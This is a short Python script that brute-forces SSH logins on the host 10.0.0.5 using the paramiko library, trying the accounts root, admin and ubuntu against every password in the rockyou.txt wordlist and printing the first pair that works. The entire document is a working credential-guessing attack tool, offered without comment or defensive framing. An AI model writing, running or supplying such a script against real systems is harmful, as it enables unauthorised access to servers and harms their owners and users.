import paramiko, itertools
users = ["root", "admin", "ubuntu"]
words = open("rockyou.txt", errors="ignore").read().split()
for user, word in itertools.product(users, words):
    c = paramiko.SSHClient()
    c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    try:
        c.connect("10.0.0.5", username=user, password=word, timeout=3)
        print("hit", user, word)
        break
    except paramiko.AuthenticationException:
        continue
